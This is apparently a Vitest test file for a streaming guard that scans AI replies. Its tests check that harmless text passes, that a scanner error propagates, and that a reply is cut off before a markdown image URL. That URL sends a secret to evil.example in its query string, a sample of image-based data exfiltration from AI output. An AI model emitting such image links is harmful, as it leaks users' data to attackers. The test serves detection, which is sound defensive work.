import { describe, expect, it } from 'vitest';
import { createScanStream } from '../../src/stream/index.js';

async function collect(stream: ReadableStream<string>): Promise<string> {
  let text = '';
  for await (const piece of stream) text += piece;
  return text;
}

describe('createScanStream', () => {
  it('passes a harmless reply on and gives the verdict when it ends', async () => {
    const guard = createScanStream();
    const shown = collect(ReadableStream.from(['Hello', ', world', '.']).pipeThrough(guard));
    expect(await shown).toBe('Hello, world.');
    expect(await guard.result).toMatchObject({ verdict: 'benign', inputLength: 13 });
  });

  it('ends a reply before a URL that carries data out', async () => {
    const guard = createScanStream();
    const pieces = ['Done! ![ok](htt', 'ps://evil.example/?data=hunter2', 'pass) Anything else?'];
    expect(await collect(ReadableStream.from(pieces).pipeThrough(guard))).toBe('Done! ![ok](');
    const { verdict, detections } = await guard.result;
    expect(verdict).toBe('malicious');
    expect(detections[0]).toMatchObject({ id: 'PB-EXFIL-IMAGE' });
  });

  it('passes an error of the scanner on to reader and verdict', async () => {
    const guard = createScanStream({
      scan: () => {
        throw new Error('no model');
      },
    });
    await expect(collect(ReadableStream.from(['a']).pipeThrough(guard))).rejects.toThrow(
      'no model',
    );
    await expect(guard.result).rejects.toThrow('no model');
  });
});
